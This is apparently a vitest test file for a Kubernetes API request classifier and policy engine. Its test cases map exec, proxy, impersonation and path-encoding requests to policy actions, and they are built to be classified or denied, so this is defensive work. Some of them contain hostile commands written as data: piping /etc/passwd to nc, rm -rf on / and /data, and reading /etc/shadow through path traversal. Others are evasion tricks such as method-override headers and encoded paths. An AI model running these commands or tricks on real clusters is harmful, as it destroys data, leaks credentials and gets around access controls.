import { beforeAll, describe, expect, it } from 'vitest';
import type { Action, KubeRequest } from '../types.js';
import { classifyKubeRequest } from './kubernetes.js';
import { loadShellClassifier } from './shell.js';
import { evaluate } from '../policy/evaluate.js';
import { lintPolicy } from '../policy/lint-policy.js';
import { parsePolicy } from '../policy/load-policy.js';

type Headers = NonNullable<KubeRequest['headers']>;
type Case = readonly [method: string, path: string, expected: readonly string[], headers?: Headers];

/** `get nodes/n1` → { operation: 'get', resource: 'nodes/n1' }; `unknown` → { operation: 'unknown' }. */
function actions(specs: readonly string[]): Action[] {
  return specs.map((s) => {
    const space = s.indexOf(' ');
    return space === -1 ? { operation: s } : { operation: s.slice(0, space), resource: s.slice(space + 1) };
  });
}

const resources: readonly Case[] = [
  ['GET', '/api/v1/namespaces/prod/pods/web-1/log', ['get namespaces/prod/pods/web-1/log']],
  ['GET', '/apis/apps/v1/namespaces/prod/deployments/web', ['get namespaces/prod/deployments.apps/web']],
  ['GET', '/api/v1/nodes/n1', ['get nodes/n1']],
  ['GET', '/api/v1/pods', ['list pods']],
  ['GET', '/api/v1/namespaces/prod', ['get namespaces/prod']],
  ['GET', '/api/v1/namespaces', ['list namespaces']],
  ['GET', '/api/v1/namespaces/prod/pods', ['list namespaces/prod/pods']],
  ['HEAD', '/api/v1/namespaces/prod/pods/web', ['get namespaces/prod/pods/web']],
  ['POST', '/api/v1/namespaces/prod/pods', ['create namespaces/prod/pods']],
  ['PUT', '/api/v1/namespaces/prod/configmaps/cfg', ['update namespaces/prod/configmaps/cfg']],
  [
    'PATCH',
    '/apis/apps/v1/namespaces/prod/deployments/web/scale',
    ['patch namespaces/prod/deployments.apps/web/scale'],
  ],
  ['PUT', '/api/v1/namespaces/prod/pods/web/status', ['update namespaces/prod/pods/web/status']],
  ['DELETE', '/api/v1/namespaces/prod/secrets/db', ['delete namespaces/prod/secrets/db']],
  ['DELETE', '/api/v1/namespaces/prod/pods', ['deletecollection namespaces/prod/pods']],
  ['DELETE', '/api/v1/namespaces/prod', ['delete namespaces/prod']],
  ['PUT', '/api/v1/namespaces/prod/finalize', ['update namespaces/prod/finalize']],
  ['GET', '/api/v1/namespaces/prod/status', ['get namespaces/prod/status']],
  [
    'GET',
    '/apis/rbac.authorization.k8s.io/v1/clusterroles/system:aggregate-to-edit',
    ['get clusterroles.rbac.authorization.k8s.io/system:aggregate-to-edit'],
  ],
  ['GET', '/apis/batch/v1beta1/namespaces/prod/cronjobs', ['list namespaces/prod/cronjobs.batch']],
  [
    'POST',
    '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
    ['create selfsubjectaccessreviews.authorization.k8s.io'],
  ],
  [
    'GET',
    '/apis/example.com/v1alpha1/namespaces/prod/widgets/w',
    ['get namespaces/prod/widgets.example.com/w'],
  ],
];

const verbs: readonly Case[] = [
  ['GET', '/api/v1/pods?watch=true', ['watch pods']],
  ['GET', '/api/v1/namespaces/prod/pods?watch=1&resourceVersion=10', ['watch namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?watch', ['watch namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?watch=0', ['list namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?watch=FALSE', ['list namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?watch=false&watch=true', ['list namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?wat%63h=true', ['watch namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?watch=true;x', ['list namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods/web?watch=true', ['get namespaces/prod/pods/web']],
  ['GET', '/api/v1/watch/namespaces/prod/pods', ['watch namespaces/prod/pods']],
  ['GET', '/api/v1/watch/namespaces/prod/pods/web', ['watch namespaces/prod/pods/web']],
  ['GET', '/apis/apps/v1/watch/deployments', ['watch deployments.apps']],
  [
    'GET',
    '/api/v1/namespaces/prod/pods?labelSelector=app%3Dweb&fieldSelector=metadata.name%3Dweb',
    ['list namespaces/prod/pods/web'],
  ],
  ['POST', '/api/v1/namespaces/prod/pods?dryRun=All', ['create namespaces/prod/pods']],
  ['get', '/api/v1/pods/', ['list pods']],
  ['Delete', '/api/v1/namespaces/prod/pods/web', ['delete namespaces/prod/pods/web']],
];

const subresources: readonly Case[] = [
  [
    'GET',
    '/api/v1/namespaces/prod/pods/web-1/exec?command=sh&stdin=true&tty=true',
    ['exec namespaces/prod/pods/web-1/exec', 'command sh', 'shell namespaces/prod/pods/web-1'],
  ],
  [
    'POST',
    '/api/v1/namespaces/prod/pods/web-1/exec?command=ls',
    ['exec namespaces/prod/pods/web-1/exec', 'command ls'],
  ],
  ['GET', '/api/v1/namespaces/prod/pods/web-1/attach?stdout=1', ['attach namespaces/prod/pods/web-1/attach']],
  [
    'POST',
    '/api/v1/namespaces/prod/pods/web-1/portforward?ports=5432',
    ['portforward namespaces/prod/pods/web-1/portforward'],
  ],
  [
    'GET',
    '/api/v1/namespaces/prod/services/web:80/proxy/api/x',
    ['proxy namespaces/prod/services/web:80/proxy'],
  ],
  [
    'DELETE',
    '/api/v1/namespaces/prod/services/https:web:443/proxy/',
    ['proxy namespaces/prod/services/https:web:443/proxy'],
  ],
  ['GET', '/api/v1/nodes/n1/proxy/metrics', ['proxy nodes/n1/proxy']],
  ['GET', '/api/v1/proxy/nodes/n1/metrics', ['proxy nodes/n1/proxy']],
  ['GET', '/api/v1/proxy/namespaces/prod/pods/web/x/y', ['proxy namespaces/prod/pods/web/proxy']],
  ['GET', '/api/v1/watch/namespaces/prod/pods/web/exec', ['exec namespaces/prod/pods/web/exec', 'unknown']],
];

const nonResource: readonly Case[] = [
  ['GET', '/version', ['get /version']],
  ['GET', '/healthz', ['get /healthz']],
  ['GET', '/healthz/etcd', ['get /healthz/etcd']],
  ['GET', '/metrics', ['get /metrics']],
  ['GET', '/openapi/v2', ['get /openapi/v2']],
  ['GET', '/openapi/v3/apis/apps/v1?hash=abc', ['get /openapi/v3/apis/apps/v1']],
  ['GET', '/apis', ['get /apis']],
  ['GET', '/api', ['get /api']],
  ['GET', '/api/v1', ['get /api/v1']],
  ['GET', '/apis/apps', ['get /apis/apps']],
  ['GET', '/apis/apps/v1', ['get /apis/apps/v1']],
  ['GET', '/', ['get /']],
  ['GET', '/.well-known/openid-configuration', ['get /.well-known/openid-configuration']],
  ['POST', '/logs/x', ['create /logs/x']],
];

const impersonation: readonly Case[] = [
  [
    'GET',
    '/api/v1/pods',
    ['list pods', 'impersonate users/admin', 'impersonate groups/system:masters', 'impersonate groups/ops'],
    { 'Impersonate-User': 'admin', 'impersonate-group': ['system:masters', 'ops'] },
  ],
  ['GET', '/api/v1/pods', ['list pods', 'impersonate uids/1234'], { 'IMPERSONATE-UID': '1234' }],
  [
    'GET',
    '/api/v1/pods',
    [
      'list pods',
      'impersonate users/bob',
      'impersonate userextras/scopes',
      'impersonate userextras/example.com/team',
    ],
    {
      'Impersonate-User': 'bob',
      'Impersonate-Extra-Scopes': 'view',
      'Impersonate-Extra-example.com%2fteam': 'a',
    },
  ],
  [
    'GET',
    '/api/v1/pods',
    ['list pods', 'impersonate groups/a, b', 'impersonate groups/a', 'impersonate groups/b'],
    { 'Impersonate-Group': 'a, b' },
  ],
  ['GET', '/api/v1/pods', ['list pods', 'unknown'], { 'Impersonate-User': '' }],
  ['GET', '/api/v1/pods', ['list pods', 'unknown'], { 'Impersonate-Usr': 'x' }],
  ['GET', '/api/v1/pods', ['list pods'], { Authorization: 'Bearer x', 'Content-Type': 'application/json' }],
  [
    'GET',
    '/api/v1/namespaces/prod/pods/web/exec?command=sh',
    [
      'exec namespaces/prod/pods/web/exec',
      'command sh',
      'unknown',
      'impersonate users/system:serviceaccount:kube-system:admin',
    ],
    { 'impersonate-user': 'system:serviceaccount:kube-system:admin' },
  ],
];

const unresolvable: readonly Case[] = [
  ['GET', '/api/v1/namespaces/prod/pods/../secrets/db', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/./pods', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods%2Fweb', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods%2fweb', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/%2e%2e/secrets', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods%252Fweb', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/web%00', ['unknown']],
  ['GET', '/api//v1/pods', ['unknown']],
  ['GET', '/api/v1/pods//', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/web/log/extra', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/web/exec/x', ['unknown']],
  ['GET', '/api/v1/watch', ['unknown']],
  ['GET', '/api/v1/proxy/nodes', ['unknown']],
  ['GET', '/api/Foo/pods', ['unknown']],
  ['GET', '/apis/Apps/v1/deployments', ['unknown']],
  ['OPTIONS', '/api/v1/pods', ['unknown']],
  ['CONNECT', '/api/v1/namespaces/prod/pods/web/exec', ['unknown']],
  ['GET ', '/api/v1/pods', ['unknown']],
  ['GET', 'api/v1/pods', ['unknown']],
  ['GET', 'https://cluster/api/v1/pods', ['unknown']],
  ['GET', '/api/v1/pods#frag', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/web 1', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/%zz', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/w\\eb', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/wéb', ['unknown']],
];

/** Red-team cases: path and header tricks, and the subresources that mint or reach credentials. */
const evasions: readonly Case[] = [
  // A proxy in front of the API server may honour a method override: the verb is not known.
  ['GET', '/api/v1/namespaces/prod/pods/web', ['unknown'], { 'X-HTTP-Method-Override': 'DELETE' }],
  ['POST', '/api/v1/namespaces/prod/pods', ['unknown'], { 'x-http-method': 'DELETE' }],
  [
    'GET',
    '/api/v1/pods',
    ['unknown', 'impersonate users/admin'],
    { 'X-Method-Override': 'DELETE', 'Impersonate-User': 'admin' },
  ],
  // OPTIONS is proxied to the backend; it is a proxy like any other method there.
  ['OPTIONS', '/api/v1/nodes/n1/proxy/configz', ['proxy nodes/n1/proxy']],
  ['OPTIONS', '/api/v1/proxy/namespaces/prod/services/web/x', ['proxy namespaces/prod/services/web/proxy']],
  ['OPTIONS', '/api/v1/namespaces/prod/pods/web/exec', ['unknown']],
  ['options', '/healthz', ['unknown']],
  ['HEAD', '/api/v1/namespaces/prod/secrets', ['list namespaces/prod/secrets']],
  // Subresources a policy must be able to name: minting a token, debugging, evicting, binding.
  [
    'POST',
    '/api/v1/namespaces/prod/serviceaccounts/default/token',
    ['create namespaces/prod/serviceaccounts/default/token'],
  ],
  [
    'PATCH',
    '/api/v1/namespaces/prod/pods/web/ephemeralcontainers',
    ['patch namespaces/prod/pods/web/ephemeralcontainers'],
  ],
  ['POST', '/api/v1/namespaces/prod/pods/web/eviction', ['create namespaces/prod/pods/web/eviction']],
  ['POST', '/api/v1/namespaces/prod/pods/web/binding', ['create namespaces/prod/pods/web/binding']],
  ['GET', '/api/v1/namespaces/prod/pods/web/log?follow=true', ['get namespaces/prod/pods/web/log']],
  ['GET', '/api/v1/nodes/n1/proxy/exec/prod/web/app?command=sh', ['proxy nodes/n1/proxy']],
  [
    'PUT',
    '/apis/apps/v1/namespaces/prod/deployments/web/scale',
    ['update namespaces/prod/deployments.apps/web/scale'],
  ],
  [
    'PUT',
    '/apis/certificates.k8s.io/v1/certificatesigningrequests/c1/approval',
    ['update certificatesigningrequests.certificates.k8s.io/c1/approval'],
  ],
  // Path spellings the API server resolves to the same object.
  [
    'GET',
    '/api/v1/namespaces/prod/pods/web/exec/?command=ls',
    ['exec namespaces/prod/pods/web/exec', 'command ls'],
  ],
  [
    'GET',
    '/api/v1/namespaces/prod/pods/web/%65xec?command=ls',
    ['exec namespaces/prod/pods/web/exec', 'command ls'],
  ],
  ['GET', '/api/v1/namespaces/prod/pods?watch=1&watch=false', ['watch namespaces/prod/pods']],
  ['GET', '/apis/apps/v1beta1/namespaces/prod/deployments/web', ['get namespaces/prod/deployments.apps/web']],
  [
    'GET',
    '/apis/stable.example.com/v1/namespaces/prod/crontabs/c',
    ['get namespaces/prod/crontabs.stable.example.com/c'],
  ],
  ['GET', '/api/v1/namespaces/pods/pods/pods', ['get namespaces/pods/pods/pods']],
  ['GET', '/api/v1/namespaces/secrets/pods', ['list namespaces/secrets/pods']],
  // Shapes where a proxy and the server could disagree.
  ['GET', '/api/v1/namespaces/prod/secrets;x=y/db', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/web%2Fexec', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/web/exec%3Fcommand=sh', ['unknown']],
  ['GET', '/api/V1/pods', ['unknown']],
  ['GET', '//evil.example/api/v1/pods', ['unknown']],
  ['GET', '/api/v1/namespaces/prod/pods/web/exec\t', ['unknown']],
  ['GET', '/api/v1/pods', ['list pods', 'impersonate users/x'], { ' Impersonate-User ': 'x' }],
];

/** API versions are DNS-1035 labels: custom resources use `stable`, `v2alpha1`, `foo1`. */
const versions: readonly Case[] = [
  [
    'GET',
    '/apis/stable.example.com/stable/namespaces/prod/crontabs/c',
    ['get namespaces/prod/crontabs.stable.example.com/c'],
  ],
  ['GET', '/apis/example.com/v2alpha1/widgets', ['list widgets.example.com']],
  ['POST', '/apis/example.com/foo1/namespaces/prod/widgets', ['create namespaces/prod/widgets.example.com']],
  ['GET', '/apis/example.com/v1-rc/widgets/w', ['get widgets.example.com/w']],
  ['GET', '/api/foo/pods', ['list pods']],
  ['GET', '/apis/example.com/1v/widgets', ['unknown']],
  ['GET', '/apis/example.com/V1/widgets', ['unknown']],
  ['GET', '/apis/example.com/v1-/widgets', ['unknown']],
  ['GET', '/apis/example.com/v1.0/widgets', ['unknown']],
  ['GET', '/apis/example.com/v_1/widgets', ['unknown']],
  ['GET', `/apis/example.com/v${'1'.repeat(63)}/widgets`, ['unknown']],
  ['GET', `/apis/example.com/v${'1'.repeat(62)}/widgets`, ['list widgets.example.com']],
];

/** `fieldSelector=metadata.name=NAME` on a list or watch names the object, as the API server reads it. */
const fieldSelectors: readonly Case[] = [
  [
    'GET',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb',
    ['list namespaces/prod/pods/web'],
  ],
  [
    'GET',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3D%3Dweb&watch=true',
    ['watch namespaces/prod/pods/web'],
  ],
  [
    'GET',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name=web&resourceVersion=1&watch=1',
    ['watch namespaces/prod/pods/web'],
  ],
  [
    'GET',
    '/apis/apps/v1/namespaces/prod/deployments?fieldSelector=metadata.name%3Dweb',
    ['list namespaces/prod/deployments.apps/web'],
  ],
  ['GET', '/api/v1/nodes?fieldSelector=metadata.name%3Dn1%2C', ['list nodes/n1']],
  [
    'HEAD',
    '/api/v1/namespaces/prod/secrets?fieldSelector=metadata.name%3Ddb',
    ['list namespaces/prod/secrets/db'],
  ],
  // Anything else in the selector keeps it a request for the collection.
  [
    'GET',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb%2Cstatus.phase%3DRunning',
    ['list namespaces/prod/pods'],
  ],
  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%21%3Dweb', ['list namespaces/prod/pods']],
  [
    'GET',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.namespace%3Dprod',
    ['list namespaces/prod/pods'],
  ],
  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3D', ['list namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3D..', ['list namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Da%2Fb', ['list namespaces/prod/pods']],
  [
    'GET',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Da%5C%2Cb',
    ['list namespaces/prod/pods/a,b'],
  ],
  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Da%3Db', ['list namespaces/prod/pods']],
  ['GET', '/api/v1/namespaces/prod/pods?fieldSelector=+metadata.name%3Dweb', ['list namespaces/prod/pods']],
  [
    'GET',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb&fieldSelector=metadata.name%3Ddb',
    ['list namespaces/prod/pods'],
  ],
  // Only a list or a watch: a named get, a deletecollection and the /watch/ path keep their reading.
  [
    'DELETE',
    '/api/v1/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb',
    ['deletecollection namespaces/prod/pods'],
  ],
  [
    'GET',
    '/api/v1/namespaces/prod/pods/db?fieldSelector=metadata.name%3Dweb',
    ['get namespaces/prod/pods/db'],
  ],
  [
    'GET',
    '/api/v1/watch/namespaces/prod/pods?fieldSelector=metadata.name%3Dweb',
    ['watch namespaces/prod/pods'],
  ],
];

/** One test per case: the request's exact actions. */
function runCases(cases: readonly Case[]): void {
  for (const [method, path, expected, headers] of cases) {
    it(`${method} ${path}`, () => {
      const request: KubeRequest = {
        type: 'kube',
        method,
        path,
        ...(headers === undefined ? {} : { headers }),
      };
      expect(classifyKubeRequest(request)).toEqual(actions(expected));
    });
  }
}

// exec/attach read their argv with the shell classifier.
beforeAll(async () => {
  await loadShellClassifier();
});

describe('classifyKubeRequest', () => {
  const groups = {
    resources,
    verbs,
    subresources,
    nonResource,
    impersonation,
    unresolvable,
    evasions,
    versions,
    fieldSelectors,
  };
  for (const [group, cases] of Object.entries(groups)) {
    describe(group, () => {
      runCases(cases);
    });
  }

  it('decodes percent-encoded letters the way the API server does', () => {
    expect(
      classifyKubeRequest({ type: 'kube', method: 'GET', path: '/api/v1/namespaces/prod/secret%73/db' }),
    ).toEqual([{ operation: 'get', resource: 'namespaces/prod/secrets/db' }]);
  });

  it('reads impersonation from a Map or a fetch Headers object, and fails closed on arrays', () => {
    const path = '/api/v1/nodes';
    const expected = [
      { operation: 'list', resource: 'nodes' },
      { operation: 'impersonate', resource: 'users/admin' },
    ];
    const map = new Map([['Impersonate-User', 'admin']]);
    const fetchHeaders = new Headers({ 'Impersonate-User': 'admin' });
    for (const headers of [map, fetchHeaders]) {
      const request = { type: 'kube', method: 'GET', path, headers } as unknown as KubeRequest;
      expect(classifyKubeRequest(request)).toEqual(expected);
    }
    const array = { type: 'kube', method: 'GET', path, headers: [['Impersonate-User', 'admin']] };
    expect(classifyKubeRequest(array as unknown as KubeRequest)).toEqual([{ operation: 'unknown' }]);
  });

  it('refuses request targets longer than 64 KiB', () => {
    const path = `/api/v1/namespaces/${'a'.repeat(64 * 1024)}/pods`;
    expect(classifyKubeRequest({ type: 'kube', method: 'GET', path })).toEqual([{ operation: 'unknown' }]);
  });

  it('fails closed on malformed request objects', () => {
    const bad = [
      { type: 'kube', method: 1, path: '/api/v1/pods' },
      { type: 'kube', method: 'GET' },
      { type: 'kube', method: 'GET', path: '/api/v1/pods', headers: 'Impersonate-User: x' },
      { type: 'kube', method: 'GET', path: '/api/v1/pods', headers: { 'Impersonate-User': 42 } },
    ];
    for (const request of bad) {
      expect(classifyKubeRequest(request as unknown as KubeRequest)).toContainEqual({ operation: 'unknown' });
    }
  });
});

describe('classifyKubeRequest exec and attach', () => {
  const exec = '/api/v1/namespaces/prod/pods/web-1/exec';
  const cases: readonly Case[] = [
    [
      'POST',
      `${exec}?command=cat&command=%2Fvar%2Flog%2Fapp.log&container=app&stdout=true&stderr=true`,
      ['exec namespaces/prod/pods/web-1/exec', 'command cat /var/log/app.log'],
    ],
    [
      'GET',
      `${exec}?command=sh&stdin=true&stdout=true&tty=true`,
      ['exec namespaces/prod/pods/web-1/exec', 'command sh', 'shell namespaces/prod/pods/web-1'],
    ],
    [
      'GET',
      `${exec}?command=%2Fbin%2Fsh&command=-c&command=cat+%2Fetc%2Fpasswd+%7C+nc+x+1&stdout=1`,
      [
        'exec namespaces/prod/pods/web-1/exec',
        'command /bin/sh -c cat /etc/passwd | nc x 1',
        'command sh -c cat /etc/passwd | nc x 1',
        'command cat /etc/passwd',
        'command nc x 1',
        // (nc reads what the pipe carries: not on the list of programs known to read stdin as data)
        'unknown',
      ],
    ],
    [
      'POST',
      `${exec}?command=bash&command=-c&command=echo+x+%3E+%2Fetc%2Fmotd`,
      [
        'exec namespaces/prod/pods/web-1/exec',
        'command bash -c echo x > /etc/motd',
        'write /etc/motd',
        'command echo x',
      ],
    ],
    [
      'POST',
      `${exec}?command=sh&command=-c&command=%24X`,
      ['exec namespaces/prod/pods/web-1/exec', 'command sh -c $X', 'unknown'],
    ],
    // The runtime starts argv directly: nothing in it is shell syntax.
    [
      'POST',
      `${exec}?command=echo&command=%24%28rm+-rf+%2F%29&command=%3B+reboot`,
      ['exec namespaces/prod/pods/web-1/exec', 'command echo $(rm -rf /) ; reboot'],
    ],
    ['POST', `${exec}?command=it%27s`, ['exec namespaces/prod/pods/web-1/exec', "command it's"]],
    ['POST', `${exec}?stdout=true`, ['exec namespaces/prod/pods/web-1/exec', 'unknown']],
    ['POST', `${exec}?command=ls&stdin=0&tty=false`, ['exec namespaces/prod/pods/web-1/exec', 'command ls']],
    [
      'POST',
      `${exec}?command=ls&stdin=false&stdin=true`,
      ['exec namespaces/prod/pods/web-1/exec', 'command ls', 'shell namespaces/prod/pods/web-1'],
    ],
    [
      'POST',
      `${exec}?command=ls&tty=`,
      ['exec namespaces/prod/pods/web-1/exec', 'command ls', 'shell namespaces/prod/pods/web-1'],
    ],
    [
      'POST',
      `${exec}?Command=rm&command=ls`,
      ['exec namespaces/prod/pods/web-1/exec', 'unknown', 'command ls'],
    ],
    // With stdin attached, a program reading its script from stdin is the interactive session.
    [
      'POST',
      `${exec}?command=python3&stdin=true`,
      ['exec namespaces/prod/pods/web-1/exec', 'command python3', 'shell namespaces/prod/pods/web-1'],
    ],
    [
      'POST',
      `${exec}?command=python3`,
      ['exec namespaces/prod/pods/web-1/exec', 'command python3', 'unknown'],
    ],
    [
      'POST',
      `${exec}?command=python3&command=-c&command=import+os&stdin=true`,
      [
        'exec namespaces/prod/pods/web-1/exec',
        'command python3 -c import os',
        'unknown',
        'shell namespaces/prod/pods/web-1',
      ],
    ],
    [
      'POST',
      `${exec}?command=sh&command=-c&command=%24X&tty=true`,
      [
        'exec namespaces/prod/pods/web-1/exec',
        'command sh -c $X',
        'unknown',
        'shell namespaces/prod/pods/web-1',
      ],
    ],
    [
      'POST',
      `${exec}?command=env&command=A%3D1&command=sh&command=-c&command=rm+-rf+%2Fdata`,
      [
        'exec namespaces/prod/pods/web-1/exec',
        'command env A=1 sh -c rm -rf /data',
        'command sh -c rm -rf /data',
        'command rm -rf /data',
        'write /data',
        'write /data/',
      ],
    ],
    [
      'GET',
      '/api/v1/namespaces/prod/pods/web-1/attach?container=app&stdin=true&stdout=true&tty=true',
      ['attach namespaces/prod/pods/web-1/attach', 'shell namespaces/prod/pods/web-1'],
    ],
    [
      'POST',
      '/api/v1/namespaces/prod/pods/web-1/attach?stdout=true&command=rm',
      ['attach namespaces/prod/pods/web-1/attach'],
    ],
    [
      'GET',
      `${exec}?command=sh&stdin=true`,
      [
        'exec namespaces/prod/pods/web-1/exec',
        'command sh',
        'shell namespaces/prod/pods/web-1',
        'impersonate users/admin',
      ],
      { 'Impersonate-User': 'admin' },
    ],
  ];
  runCases(cases);
});

describe('a policy over exec commands and interactive shells (docs/classification.md)', () => {
  const policy = parsePolicy(`version: 1
targets:
  prod-cluster: { protocol: kubernetes }
rules:
  - id: read-logs-in-pods
    effect: allow
    when: { targets: [prod-cluster], operations: [exec, command], resources: ["namespaces/prod/pods/*/exec", "cat /var/log/*", sh] }
  - id: interactive-needs-review
    effect: review
    when: { targets: [prod-cluster], operations: [shell] }
    review: { approvers: { groups: [sre-leads] } }
`);
  const decide = (path: string): string =>
    evaluate(policy, {
      principal: { subject: 'bob', groups: ['sre'], kind: 'human' },
      target: 'prod-cluster',
      actions: classifyKubeRequest({ type: 'kube', method: 'POST', path }),
    }).effect;
  const exec = '/api/v1/namespaces/prod/pods/web-1/exec';

  it('allows reading a log, reviews an interactive shell, denies anything else', () => {
    expect(decide(`${exec}?command=cat&command=%2Fvar%2Flog%2Fapp.log&stdout=true`)).toBe('allow');
    expect(decide(`${exec}?command=sh&stdin=true&tty=true&stdout=true`)).toBe('review');
    expect(decide(`${exec}?command=sh&stdout=true`)).toBe('deny');
    expect(decide(`${exec}?command=cat&command=%2Fetc%2Fshadow&stdout=true`)).toBe('deny');
    expect(decide(`${exec}?command=cat&command=%2Fvar%2Flog%2F..%2F..%2Fetc%2Fshadow`)).toBe('deny');
    expect(decide(`${exec}?command=sh&command=-c&command=cat+%2Fvar%2Flog%2Fa%3Brm+-rf+%2F`)).toBe('deny');
  });

  it('lints clean', () => {
    expect(lintPolicy(policy)).toEqual([]);
  });
});
